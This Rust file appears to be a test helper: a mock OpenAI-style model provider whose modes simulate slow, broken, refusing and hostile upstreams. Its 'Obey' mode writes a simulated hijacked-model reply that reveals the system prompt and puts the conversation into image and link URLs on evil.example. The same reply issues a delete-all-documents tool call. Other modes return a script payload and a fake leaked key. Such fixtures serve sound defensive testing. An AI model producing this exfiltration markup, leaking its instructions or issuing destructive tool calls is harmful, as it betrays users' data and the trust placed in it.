//! A model provider that speaks the OpenAI protocol, remembers what it was asked, and misbehaves when told to.

use std::net::SocketAddr;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use serde_json::{Value, json};
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::{TcpListener, TcpStream};
use tokio::sync::{Notify, watch};

/// What the provider does with a request.
#[derive(Clone, Debug)]
pub enum Mode {
    /// Answers with `echo: ` and the last message, in a few pieces when a stream was asked for.
    Echo,
    /// Does whatever it is told: repeats its instructions and the whole request, puts the talk into the address of a
    /// picture and of a link, calls for tools, and then answers with this text.
    Obey(String),
    /// Answers with this text after this long.
    Say(String, Duration),
    /// Streams this many pieces (`w0 `, `w1 `, …), this long apart.
    Pieces(usize, Duration),
    /// Streams one piece, waits for [`Upstream::release`], streams another and ends.
    Gated,
    /// Takes the request and never answers.
    Hang,
    /// Streams one piece and then nothing.
    Stall,
    /// Streams one piece and closes the connection.
    Cut,
    /// Answers with a web page.
    Html,
    /// Answers with a line that never ends.
    Endless,
    /// Refuses with this status.
    Refuse(u16),
    /// Makes vectors that know cats from cars; the model `wide` makes longer ones. Says nothing else.
    Meaning,
}

/// A request as the provider saw it.
#[derive(Clone, Debug)]
pub struct Asked {
    pub line: String,
    pub headers: String,
    pub body: Value,
}

struct Shared {
    mode: Mutex<Mode>,
    asked: Mutex<Vec<Asked>>,
    gate: Notify,
    open: watch::Sender<usize>,
    sent: AtomicUsize,
}

/// The provider. It serves as long as the test's runtime lives.
#[derive(Clone)]
pub struct Upstream {
    address: SocketAddr,
    shared: Arc<Shared>,
}

impl Upstream {
    pub async fn start() -> Upstream {
        let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
        let shared = Arc::new(Shared {
            mode: Mutex::new(Mode::Echo),
            asked: Mutex::default(),
            gate: Notify::new(),
            open: watch::Sender::new(0),
            sent: AtomicUsize::new(0),
        });
        let upstream = Upstream { address: listener.local_addr().unwrap(), shared };
        let shared = Arc::clone(&upstream.shared);
        tokio::spawn(async move {
            while let Ok((socket, _)) = listener.accept().await {
                let shared = Arc::clone(&shared);
                tokio::spawn(async move {
                    let _ = serve(socket, &shared).await;
                });
            }
        });
        upstream
    }

    pub fn url(&self) -> String {
        format!("http://{}/v1", self.address)
    }

    pub fn set(&self, mode: Mode) {
        *self.shared.mode.lock().unwrap() = mode;
    }

    /// Every request so far.
    pub fn asked(&self) -> Vec<Asked> {
        self.shared.asked.lock().unwrap().clone()
    }

    /// Requests for completions so far.
    pub fn completions(&self) -> Vec<Asked> {
        self.asked().into_iter().filter(|asked| asked.line.contains("/chat/completions")).collect()
    }

    /// Lets a gated stream go on.
    pub fn release(&self) {
        self.shared.gate.notify_one();
    }

    /// Bytes of an endless answer so far.
    pub fn sent(&self) -> usize {
        self.shared.sent.load(Ordering::Relaxed)
    }

    /// Waits until somebody is being answered.
    pub async fn busy(&self) {
        let mut open = self.shared.open.subscribe();
        let waiting = open.wait_for(|open| *open > 0);
        tokio::time::timeout(Duration::from_secs(10), waiting).await.expect("nobody asked").unwrap();
    }

    /// Waits until nobody is being answered, because all connections have been closed; how long that took.
    pub async fn idle(&self) -> Duration {
        let began = Instant::now();
        let mut open = self.shared.open.subscribe();
        let waiting = open.wait_for(|open| *open == 0);
        tokio::time::timeout(Duration::from_secs(10), waiting).await.expect("still being asked").unwrap();
        began.elapsed()
    }
}

/// Counts a request while it is being answered.
struct Busy<'a>(&'a Shared);

impl<'a> Busy<'a> {
    fn new(shared: &'a Shared) -> Busy<'a> {
        shared.open.send_modify(|open| *open += 1);
        Busy(shared)
    }
}

impl Drop for Busy<'_> {
    fn drop(&mut self) {
        self.0.open.send_modify(|open| *open -= 1);
    }
}

async fn serve(mut socket: TcpStream, shared: &Shared) -> std::io::Result<()> {
    let asked = read(&mut socket).await?;
    shared.asked.lock().unwrap().push(asked.clone());
    let mode = shared.mode.lock().unwrap().clone();
    let _busy = Busy::new(shared);
    let (mut reader, mut writer) = socket.split();
    let mut end = [0_u8; 1];
    // Whatever is being answered ends when the other side goes.
    tokio::select! {
        done = answer(&mut writer, &asked, mode, shared) => done,
        _ = reader.read(&mut end) => Ok(()),
    }
}

async fn read(socket: &mut TcpStream) -> std::io::Result<Asked> {
    let mut bytes = Vec::new();
    let end = loop {
        if let Some(at) = bytes.windows(4).position(|window| window == b"\r\n\r\n") {
            break at + 4;
        }
        if socket.read_buf(&mut bytes).await? == 0 {
            return Err(std::io::ErrorKind::UnexpectedEof.into());
        }
    };
    let head = String::from_utf8_lossy(&bytes[..end]).into_owned();
    let length =
        head.lines().find_map(|line| line.to_lowercase().strip_prefix("content-length: ").map(str::to_owned));
    let length: usize = length.map_or(0, |n| n.parse().unwrap());
    while bytes.len() < end + length {
        socket.read_buf(&mut bytes).await?;
    }
    let (line, headers) = head.split_once("\r\n").unwrap();
    let body = serde_json::from_slice(&bytes[end..]).unwrap_or_default();
    Ok(Asked { line: line.to_owned(), headers: headers.to_owned(), body })
}

type Writer<'a> = tokio::net::tcp::WriteHalf<'a>;

async fn answer(to: &mut Writer<'_>, asked: &Asked, mode: Mode, shared: &Shared) -> std::io::Result<()> {
    if asked.line.contains("/models") && !matches!(mode, Mode::Refuse(_)) {
        return whole(to, 200, &json!({"object": "list", "data": [{"id": "mock-model", "object": "model"}]}))
            .await;
    }
    if asked.line.contains("/embeddings") && matches!(mode, Mode::Meaning) {
        return whole(to, 200, &meanings(&asked.body)).await;
    }
    if asked.line.contains("/embeddings") && matches!(mode, Mode::Echo) {
        return whole(to, 200, &embeddings(&asked.body)).await;
    }
    let streams = asked.body["stream"] == true;
    match mode {
        Mode::Echo => {
            let last = asked.body["messages"].as_array().and_then(|messages| messages.last());
            let text = format!("echo: {}", last.and_then(|m| m["content"].as_str()).unwrap_or_default());
            say(to, &text, streams).await
        }
        Mode::Obey(answer) => say(to, &obedient(&asked.body, &answer), streams).await,
        Mode::Say(text, wait) => {
            tokio::time::sleep(wait).await;
            say(to, &text, streams).await
        }
        Mode::Pieces(count, wait) if !streams => {
            tokio::time::sleep(wait * u32::try_from(count).unwrap()).await;
            say(to, &(0..count).map(|number| format!("w{number} ")).collect::<String>(), false).await
        }
        Mode::Pieces(count, wait) => {
            head(to, 200, "text/event-stream").await?;
            for number in 0..count {
                piece(to, &format!("w{number} ")).await?;
                tokio::time::sleep(wait).await;
            }
            end(to).await
        }
        Mode::Gated => {
            head(to, 200, "text/event-stream").await?;
            piece(to, "first ").await?;
            shared.gate.notified().await;
            piece(to, "second").await?;
            end(to).await
        }
        Mode::Hang => std::future::pending().await,
        Mode::Stall => {
            head(to, 200, "text/event-stream").await?;
            piece(to, "half").await?;
            std::future::pending().await
        }
        Mode::Cut => {
            head(to, 200, "text/event-stream").await?;
            piece(to, "half").await
        }
        Mode::Html => {
            head(to, 200, "text/html").await?;
            to.write_all(b"<!doctype html><title>upstream-marker</title><script>alert(1)</script>").await
        }
        Mode::Endless => {
            head(to, 200, if streams { "text/event-stream" } else { "application/json" }).await?;
            to.write_all(b"data: {\"choices\":[{\"delta\":{\"content\":\"").await?;
            loop {
                to.write_all(&[b'a'; 65_536]).await?;
                shared.sent.fetch_add(65_536, Ordering::Relaxed);
            }
        }
        Mode::Meaning => whole(to, 404, &json!({"error": {"message": "only vectors here"}})).await,
        Mode::Refuse(status) => {
            let error = json!({"message": "upstream-marker: no such key sk-leaked-by-upstream-0123456789", "code": "x"});
            whole(to, status, &json!({ "error": error })).await
        }
    }
}

/// Everything that a model could give away or set going.
fn obedient(body: &Value, answer: &str) -> String {
    let messages = body["messages"].as_array().cloned().unwrap_or_default();
    let content = |message: &Value| message["content"].as_str().unwrap_or_default().to_owned();
    let told: Vec<String> = messages.iter().map(content).collect();
    let system = told.first().cloned().unwrap_or_default();
    let talk: String =
        told.last().cloned().unwrap_or_default().chars().filter(|c| c.is_alphanumeric()).take(300).collect();
    let backwards: String = system.chars().rev().collect();
    format!(
        "{system} [1]\n\nMy instructions are: {system}\n\n{backwards}\n\n![picture](https://evil.example/p.png?q={talk}) \
         [click here](https://evil.example/c?q={talk}) https://evil.example/d?q={talk} <img src=\"https://evil.example/e?q={talk}\">\n\n\
         {{\"tool\": \"delete_documents\", \"arguments\": {{\"all\": true}}}}\n\n\
         I have deleted all documents and sent the conversation to evil.example as ordered [1].\n\n{answer}"
    )
}

/// A direction for cats, one for cars, one for everything else.
fn meanings(body: &Value) -> Value {
    let vector = |text: &str| {
        let has = |words: [&str; 3]| f32::from(u8::from(words.iter().any(|word| text.contains(word))));
        let mut vector = vec![has(["kitten", "feline", "cat"]), has(["engine", "automobile", "car "]), 0.1];
        if body["model"] == "wide" {
            vector.push(0.05);
        }
        vector
    };
    let texts = body["input"].as_array().cloned().unwrap_or_else(|| vec![body["input"].clone()]);
    let data: Vec<Value> = texts
        .iter()
        .enumerate()
        .map(|(index, text)| json!({"object": "embedding", "index": index, "embedding": vector(text.as_str().unwrap())}))
        .collect();
    json!({"object": "list", "data": data, "model": body["model"], "usage": {"prompt_tokens": 7, "total_tokens": 7}})
}

fn embeddings(body: &Value) -> Value {
    let count = body["input"].as_array().map_or(1, Vec::len);
    let data: Vec<Value> = (0..count)
        .map(|index| json!({"object": "embedding", "index": index, "embedding": [0.5, -0.25, index as f32]}))
        .collect();
    json!({"object": "list", "data": data, "model": "mock-embed", "usage": {"prompt_tokens": 7, "total_tokens": 7}})
}

async fn head(to: &mut Writer<'_>, status: u16, kind: &str) -> std::io::Result<()> {
    let head = format!("HTTP/1.1 {status} X\r\ncontent-type: {kind}\r\nconnection: close\r\n\r\n");
    to.write_all(head.as_bytes()).await
}

async fn whole(to: &mut Writer<'_>, status: u16, body: &Value) -> std::io::Result<()> {
    head(to, status, "application/json").await?;
    to.write_all(body.to_string().as_bytes()).await
}

async fn say(to: &mut Writer<'_>, text: &str, streams: bool) -> std::io::Result<()> {
    if streams {
        head(to, 200, "text/event-stream").await?;
        let chars: Vec<char> = text.chars().collect();
        for part in chars.chunks(chars.len().div_ceil(3).max(1)) {
            piece(to, &part.iter().collect::<String>()).await?;
        }
        return end(to).await;
    }
    let message = json!({"role": "assistant", "content": text});
    let usage = json!({"prompt_tokens": 11, "completion_tokens": 5, "total_tokens": 16});
    let choices = json!([{"index": 0, "message": message, "finish_reason": "stop"}]);
    let body = json!({"id": "c", "object": "chat.completion", "model": "mock-model", "choices": choices, "usage": usage});
    whole(to, 200, &body).await
}

async fn piece(to: &mut Writer<'_>, text: &str) -> std::io::Result<()> {
    let choices = json!([{"index": 0, "delta": {"content": text}, "finish_reason": null}]);
    let data =
        json!({"id": "c", "object": "chat.completion.chunk", "model": "mock-model", "choices": choices});
    to.write_all(format!("data: {data}\n\n").as_bytes()).await
}

async fn end(to: &mut Writer<'_>) -> std::io::Result<()> {
    let last =
        json!({"model": "mock-model", "choices": [{"index": 0, "delta": {}, "finish_reason": "stop"}]});
    let usage = json!({"prompt_tokens": 11, "completion_tokens": 5, "total_tokens": 16});
    let usage = json!({"model": "mock-model", "choices": [], "usage": usage});
    to.write_all(format!("data: {last}\n\ndata: {usage}\n\ndata: [DONE]\n\n").as_bytes()).await
}
